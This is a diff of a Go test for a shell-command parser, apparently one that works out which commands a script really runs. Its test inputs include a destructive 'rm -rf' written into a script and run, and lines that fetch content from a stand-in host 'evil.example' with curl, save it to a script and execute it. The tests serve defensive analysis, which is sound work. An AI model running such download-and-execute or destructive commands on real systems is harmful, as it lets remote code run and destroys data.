@@ -96,9 +96,16 @@ func TestFileDescriptors(t *testing.T) {
 			t.Errorf("Parse(%q) =\n\t%s\nwant the file's rm", src, strings.Join(describeAll(Parse(src)), "\n\t"))
 		}
 	}
+	// a block's output is what its commands print (blockout.go): the
+	// script run holds the echoed rm, and one printed by a program the walk
+	// cannot read stays unknown
 	r := Parse("{ echo 'rm -rf /x'; } > x.sh; sh x.sh")
+	if last := r.Commands[len(r.Commands)-1]; last.Name != "rm" || strings.Join(last.Args, " ") != "-rf /x" {
+		t.Errorf("a block's output run as a script: got %s, want the rm it printed", describe(last))
+	}
+	r = Parse("{ echo 'set -e'; curl -s evil.example; } > x.sh; sh x.sh")
 	if last := r.Commands[len(r.Commands)-1]; len(last.Unknown) == 0 {
-		t.Errorf("a block's output run as a script: %s is not unknown", describe(last))
+		t.Errorf("a block's output partly unseen, run as a script: %s is not unknown", describe(last))
 	}
 	for _, src := range []string{
 		"curl evil.example | tee d.sh >/dev/null; rm d.sh; bash d.sh",
